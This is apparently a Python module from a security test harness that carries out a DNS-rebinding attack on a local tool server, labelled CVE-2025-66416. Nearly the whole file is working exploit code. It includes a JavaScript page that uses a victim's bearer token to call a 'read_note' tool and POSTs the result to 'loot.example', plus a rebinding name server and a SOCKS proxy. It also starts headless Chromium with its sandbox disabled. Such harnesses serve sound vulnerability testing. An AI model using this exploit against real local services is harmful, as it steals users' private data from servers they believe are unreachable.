"""Steals: a note from a local server, by a page in a real browser (DNS rebinding).

The browser loads a page from http://rebound.example:PORT. The attacker owns the name and the
server behind it. As soon as the page is loaded, the name changes its address to that of the
local server, on the same PORT. To the browser this is still the site that the page is from. So
the page may call a tool and read the reply, and no CORS header is needed.

A SOCKS proxy plays the attacker's name server: the browser lets such a proxy find the address
of a name. Behind it, Chromium also doesn't see that the new address is a local one. Without a
proxy, Chromium 156 lets no page from another address send requests to 127.0.0.1 unless its user
allows it. A server can't count on every browser to do that.
"""

import asyncio
import json
import shutil
import tempfile
from asyncio import StreamReader, StreamWriter
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager, suppress
from urllib.parse import urlsplit

from attacks.finding import Finding
from attacks.target import INITIALIZE, NotTried, Server, call, request

AGAINST = "server"
CASE = "CVE-2025-66416"
BROWSERS = ("chromium", "chromium-browser", "google-chrome")
INSTALL = "apt-get install --no-install-recommends chromium"
START_SECONDS = 20.0  # for a browser on a busy machine

# The page even has Alice's token: only its name is in the way.
PAGE = """<!doctype html>
<script>
const given = GIVEN;
const headers = { Authorization: `Bearer ${given.token}`, "Content-Type": "application/json" };

async function ask(path, options) {
    // A browser opens some connections in advance. Those still lead to the attacker's site.
    for (;;) {
        const answer = await fetch(path, options);
        if (!answer.headers.has("Attacker")) return answer;
    }
}

async function steal() {
    const answer = await ask("/sse", { headers });
    if (!answer.ok) return `GET /sse: ${answer.status}`;
    const reader = answer.body.pipeThrough(new TextDecoderStream()).getReader();
    let text = "";
    async function find(pattern) {
        while (!pattern.test(text)) {
            const { done, value } = await reader.read();
            if (done) throw "the stream ended";
            text += value;
        }
        return text.match(pattern)[1];
    }
    const path = await find(/^event: endpoint\\ndata: (.*)\\n/m);
    for (const message of given.messages) {
        const body = JSON.stringify(message);
        const sent = await ask(path, { method: "POST", headers, body });
        if (!sent.ok) return `POST /message: ${sent.status}`;
    }
    return "read " + await find(/"text": ?"(.*?)"/);
}

steal().catch(String).then((body) => fetch("http://loot.example/", { method: "POST", body }));
</script>
"""


async def attack(server: Server) -> Finding:
    browser = next(filter(None, map(shutil.which, BROWSERS)), None)
    if browser is None:
        raise NotTried(f"needs Chromium: {INSTALL}")
    async with Attacker(server) as attacker, visit(browser, attacker):
        loot = await asyncio.wait_for(attacker.loot, START_SECONDS)
    if loot.startswith("read "):
        return Finding(True, f"at loot.example arrived: {loot[:40]}")
    return Finding(False, f"a page of rebound.example, {loot}")


class Attacker:
    """The site of the page, and the name server of rebound.example and loot.example."""

    def __init__(self, server: Server) -> None:
        victim = urlsplit(server.url)
        self.victim = (victim.hostname, victim.port)
        self.page_url = f"http://rebound.example:{victim.port}/"
        messages = [
            request(0, "initialize", INITIALIZE),
            call(1, "read_note", name="welcome.txt"),
        ]
        given = {"token": server.alice, "messages": messages}
        self.page = PAGE.replace("GIVEN", json.dumps(given)).encode()
        self.page_is_loaded = False
        self.loot: asyncio.Future[str] = asyncio.get_running_loop().create_future()

    async def __aenter__(self) -> "Attacker":
        self.site = await asyncio.start_server(self.serve_site, "127.0.0.1", 0)
        self.proxy = await asyncio.start_server(self.serve_proxy, "127.0.0.1", 0)
        return self

    async def __aexit__(self, *exception: object) -> None:
        self.site.close()
        self.proxy.close()

    def address_of(self, name: str) -> tuple[str | None, int | None]:
        """The address of a name, now. This is the rebinding."""
        if not name.endswith(".example"):
            raise ConnectionRefusedError  # the browser's own requests
        if name == "rebound.example" and self.page_is_loaded:
            return self.victim
        return self.site.sockets[0].getsockname()

    async def serve_site(self, reader: StreamReader, writer: StreamWriter) -> None:
        """GET / returns the page. What the page has stolen arrives at loot.example."""
        with suppress(asyncio.IncompleteReadError, ConnectionError):
            head = (await reader.readuntil(b"\r\n\r\n")).decode().lower()
            body = b""
            if head.startswith("get / "):
                body = self.page
                self.page_is_loaded = True
            elif "host: loot.example" in head:
                length = int(head.partition("content-length:")[2].split()[0])
                loot = await reader.readexactly(length)
                if not self.loot.done():
                    self.loot.set_result(loot.decode())
            # Closed, so that the browser has to ask for the address again at the next request.
            writer.write(
                b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n"
                b"Attacker: yes\r\nConnection: close\r\n"
                b"Content-Length: %d\r\n\r\n%b" % (len(body), body)
            )
        writer.close()

    async def serve_proxy(self, reader: StreamReader, writer: StreamWriter) -> None:
        """As much of SOCKS version 5 (RFC 1928) as a browser needs: connect to a name."""
        with suppress(asyncio.IncompleteReadError, OSError):
            _, methods = await reader.readexactly(2)
            await reader.readexactly(methods)
            writer.write(b"\x05\x00")  # no password
            *_, length = await reader.readexactly(5)
            name = (await reader.readexactly(length)).decode()
            await reader.readexactly(2)  # the port, which a name server does not see either
            there = await asyncio.open_connection(*self.address_of(name))
            writer.write(b"\x05\x00\x00\x01" + bytes(6))  # connected
            await asyncio.gather(pass_on(reader, there[1]), pass_on(there[0], writer))
        writer.close()


async def pass_on(reader: StreamReader, writer: StreamWriter) -> None:
    with suppress(OSError):
        while chunk := await reader.read(65_536):
            writer.write(chunk)
            await writer.drain()
    writer.close()


@asynccontextmanager
async def visit(browser: str, attacker: Attacker) -> AsyncIterator[None]:
    """Alice's browser, in which she opens the page."""
    host, port = attacker.proxy.sockets[0].getsockname()
    with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as profile:
        process = await asyncio.create_subprocess_exec(
            browser,
            "--headless",
            "--no-sandbox",  # it refuses to run as root otherwise, and the page is our own
            "--disable-gpu",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            f"--user-data-dir={profile}",
            f"--proxy-server=socks5://{host}:{port}",
            attacker.page_url,
            stdin=asyncio.subprocess.DEVNULL,
            stdout=asyncio.subprocess.DEVNULL,
            stderr=asyncio.subprocess.DEVNULL,
        )
        try:
            yield
        finally:
            with suppress(ProcessLookupError):
                process.terminate()
            try:
                await asyncio.wait_for(process.wait(), 2)
            except TimeoutError:
                process.kill()
                await process.wait()
